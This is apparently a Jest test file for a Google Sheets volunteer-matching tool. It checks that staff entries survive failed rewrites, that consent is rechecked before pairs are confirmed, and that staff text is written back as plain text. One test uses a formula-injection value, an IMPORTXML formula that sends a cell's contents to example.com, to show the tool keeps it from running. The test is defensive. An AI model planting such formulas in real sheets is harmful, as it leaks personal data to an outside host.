// What staff put into マッチング結果 stays with its pair, survives a failed rewrite, is written back as text; 確定 rechecks every pair.
import { describe, it } from '@jest/globals';
import { expect } from '../../support/expect';
import type { CommitResult, MatchView } from '../../../src/shared/rpc';
import type { Session } from '../../../src/local/session';
import { needsFormulaGuard } from '../../../src/core/text/formula';
import { demoSession, workedOnSession } from '../../safety/actions';
import { rpc, rpcError } from '../../local/helpers/session';
import { NOTHING_CHANGED_JA } from '../../support/fault-harness';
import { assignedCell } from '../../../src/core/actions/match';

function sheet(session: Session, name: string) {
  const found = session.emu.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
  if (!found) throw new Error(`no sheet ${name}`);
  return found;
}

/** Each pair's row in マッチング結果 (1-based), by 'request/volunteer'. */
function pairRows(session: Session): Map<string, number> {
  const rows = new Map<string, number>();
  session.emu.sheetValues('マッチング結果').forEach((r, i) => {
    if (i > 0 && r[3] !== '') rows.set(`${String(r[0])}/${String(r[3])}`, i + 1);
  });
  return rows;
}

/** What a row of マッチング結果 carries that staff put there. */
function staffPart(session: Session, row: number) {
  const results = sheet(session, 'マッチング結果');
  return {
    approved: results.getRange(row, 8).getValue(),
    contacted: results.getRange(row, 12).getValue(),
    checkbox: results.getRange(row, 12).getDataValidation()?.getCriteriaType().toString() ?? null,
    formula: results.getRange(row, 13).getFormula(),
    memo: results.getRange(row, 10).getValue(),
    fill: results.getRange(row, 1).getBackground(),
  };
}

describe('a failed マッチング rewrite (defect 1)', () => {
  it('keeps every 承認 and everything else staff entered, whichever call fails, and says nothing changed', () => {
    const base = workedOnSession();
    const before = base.emu.snapshot();
    const approvedBefore = [...pairRows(base).entries()]
      .filter(([, row]) => staffPart(base, row).approved === true)
      .map(([key]) => key);
    expect(approvedBefore.length).toBeGreaterThan(1);
    base.emu.failAtMutation(null);
    rpc(base, 'runMatching');
    const calls = base.emu.mutations.length;
    for (let n = 1; n <= calls; n++) {
      const session = workedOnSession();
      session.emu.failAtMutation(n);
      const reply = session.run('runMatching') as { ok: boolean; error?: { ja: string } };
      if (reply.ok) continue;
      expect(reply.error?.ja, `call ${n}`).toMatch(NOTHING_CHANGED_JA);
      const rows = pairRows(session);
      for (const key of approvedBefore) {
        expect(staffPart(session, rows.get(key) as number).approved, `call ${n}: ${key}`).toBe(true);
      }
      expect(session.emu.snapshot(), `call ${n}`).toEqual(before);
    }
  });
});

describe('staff columns in マッチング結果 (defect 4)', () => {
  it('stay with their pair when the pairs move: values, check boxes, fills, and formulas re-anchored to their own row', () => {
    const session = workedOnSession();
    const before = new Map([...pairRows(session)].map(([key, row]) => [key, { row, ...staffPart(session, row) }]));
    rpc(session, 'runMatching');
    const after = pairRows(session);
    let moved = 0;
    for (const [key, row] of after) {
      const was = before.get(key);
      if (!was) continue;
      if (was.row !== row) moved++;
      const now = staffPart(session, row);
      expect(now.contacted, key).toBe(was.contacted);
      expect(now.checkbox, key).toBe('CHECKBOX');
      expect(now.memo, key).toBe(was.memo);
      expect(now.fill, key).toBe(was.fill);
      // =D6&"さん" on row 6 reads this pair's 登録番号 from its new row.
      expect(now.formula, key).toBe(`=D${row}&"さん"`);
    }
    expect(moved, 'the roster change moves some pairs').toBeGreaterThan(0);
    expect(session.emu.sheetValues('マッチング結果')[0]?.slice(11, 13)).toEqual(['連絡済み', '確認']);
  });
});

describe('staff text written back (defect 6)', () => {
  it('is written guarded, whatever the cell format: 指定, メモ and staff columns never become formulas', () => {
    const session = workedOnSession();
    const results = sheet(session, 'マッチング結果');
    const typed = '=IMPORTXML("https://example.com/?n="&E2,"//a")';
    // The last pair's row (the first request is closed, so its rows go).
    const at = Math.max(...pairRows(session).values());
    // Typed as text: in 指定 (no format), in メモ (plain text format) and in a staff column formatted as text.
    results.getRange(at, 9).clearDataValidations().setValue(`'${typed}`);
    results.getRange(at, 10).setValue(typed);
    results.getRange(at, 14).setNumberFormat('@').setValue(typed);
    results.getRange(1, 14).setValue('備考');
    for (const column of [9, 10, 14]) expect(results.getRange(at, column).getFormula()).toBe('');
    const key = `${String(results.getRange(at, 1).getValue())}/${String(results.getRange(at, 4).getValue())}`;
    const inputs = session.emu.recordInputs();
    rpc(session, 'runMatching');
    const row = pairRows(session).get(key);
    expect(row).toBeDefined();
    for (const column of [9, 10, 14]) {
      expect(results.getRange(row as number, column).getFormula(), `column ${column}`).toBe('');
      expect(results.getRange(row as number, column).getValue(), `column ${column}`).toBe(typed);
    }
    // Whatever Sheets makes of a text cell, the value Tsunagu passes is guarded.
    const written = inputs.filter((w) => typeof w.input === 'string' && w.input.includes('IMPORTXML'));
    expect(written.length).toBeGreaterThanOrEqual(3);
    for (const w of written) expect(w.input, `${w.sheet}!R${w.row}C${w.column}`).toBe(`'${typed}`);
    // And nothing Tsunagu wrote could be read as a formula, but staff's own formulas moved with their pair.
    for (const w of inputs) {
      if (typeof w.input !== 'string' || !needsFormulaGuard(w.input)) continue;
      expect(w.input, `${w.sheet}!R${w.row}C${w.column}`).toMatch(/^=D\d+&"さん"$/);
    }
  });
});

describe('確定 rechecks every approved pair (defect 5)', () => {
  /** Matching run once, the first proposed pair approved; returns the session and that pair. */
  function approvedOne() {
    const session = demoSession();
    const view = rpc<MatchView>(session, 'runMatching');
    const pairs = view.requests.flatMap((r) => r.pairs);
    const first = pairs[0];
    if (!first) throw new Error('no pair');
    rpc(session, 'setApproval', first.requestId, first.volunteerId, true);
    return { session, first, pairs };
  }

  function rosterCell(session: Session, volunteerId: string, header: string) {
    const roster = session.emu.sheetValues('ボランティア名簿');
    const head = roster[0] ?? [];
    const row = roster.findIndex((r) => r[head.indexOf('登録番号')] === volunteerId);
    return sheet(session, 'ボランティア名簿').getRange(row + 1, head.indexOf(header) + 1);
  }

  it('refuses a hand-typed pair whose volunteer has not consented, writes the others, and lists the refusal with its reason', () => {
    const { session, first, pairs } = approvedOne();
    const second = pairs.find((p) => p.requestId !== first.requestId);
    if (!second) throw new Error('need a second request');
    // Staff type a pair by hand: the second request with a volunteer who never consented.
    const roster = session.emu.sheetValues('ボランティア名簿');
    const head = roster[0] ?? [];
    const noConsent = roster.find(
      (r, i) =>
        i > 0 &&
        r[head.indexOf('状態')] === '活動中' &&
        r[head.indexOf('登録番号')] !== first.volunteerId &&
        r[head.indexOf('登録番号')] !== second.volunteerId,
    );
    const noConsentId = String(noConsent?.[head.indexOf('登録番号')]);
    rosterCell(session, noConsentId, '個人情報同意').setValue('いいえ');
    const row = pairRows(session).get(`${second.requestId}/${second.volunteerId}`) as number;
    const results = sheet(session, 'マッチング結果');
    results.getRange(row, 4).setValue(noConsentId);
    results.getRange(row, 8).setValue(true);
    const result = rpc<CommitResult>(session, 'commitMatches');
    expect(result.committed).toBe(1);
    expect(result.refused).toEqual([
      {
        requestId: second.requestId,
        volunteerId: noConsentId,
        reason: expect.objectContaining({ ja: expect.stringMatching(/同意/) }),
      },
    ]);
    const requests = session.emu.sheetValues('依頼');
    const rhead = requests[0] ?? [];
    const assigned = (id: string) =>
      String(requests.find((r) => r[0] === id)?.[rhead.indexOf('担当ボランティア')] ?? '');
    expect(assigned(first.requestId)).toContain(first.volunteerId);
    expect(assigned(second.requestId)).not.toContain(noConsentId);
  });

  it('refuses a pair that breaks any hard constraint, and commits nothing when every pair is refused', () => {
    const { session, first } = approvedOne();
    rosterCell(session, first.volunteerId, '個人情報同意').setValue('いいえ');
    // 依頼 did not change, so the fingerprint holds: only the recheck stops the pair.
    const before = session.emu.sheetValues('依頼');
    const error = rpcError(session, 'commitMatches');
    expect(error.code).toBe('match.allRefused');
    expect(error.ja).toContain(first.volunteerId);
    expect(error.ja).toMatch(/同意/);
    expect(session.emu.sheetValues('依頼')).toEqual(before);
  });

  it('writes ids cleanly into 担当ボランティア: no dangling 「、」, no id twice', () => {
    const { session, first } = approvedOne();
    const requests = session.emu.sheetValues('依頼');
    const rhead = requests[0] ?? [];
    const r = requests.findIndex((x) => x[0] === first.requestId);
    const cell = sheet(session, '依頼').getRange(r + 1, rhead.indexOf('担当ボランティア') + 1);
    // What staff left there: a stray separator — 依頼 changed, so matching runs again first.
    cell.setValue('、 ');
    rpc(session, 'runMatching');
    const again = pairRows(session).get(`${first.requestId}/${first.volunteerId}`);
    if (again !== undefined) {
      sheet(session, 'マッチング結果').getRange(again, 8).setValue(true);
      rpc(session, 'commitMatches');
      expect(cell.getValue()).toBe(first.volunteerId);
    } else {
      throw new Error('the pair is no longer proposed');
    }
  });
});

describe('assignedCell', () => {
  it('keeps the ids already there as written, adds the new ones, and drops empty pieces and repeats', () => {
    expect(assignedCell('', ['V-3'])).toBe('V-3');
    expect(assignedCell('V-1、', ['V-3'])).toBe('V-1、V-3');
    expect(assignedCell('V-1、、V-2, ', ['V-3', 'v-2', 'V-3'])).toBe('V-1、V-2、V-3');
    expect(assignedCell('Ｖ－１\nV-2', ['V-1'])).toBe('Ｖ－１、V-2');
  });
});
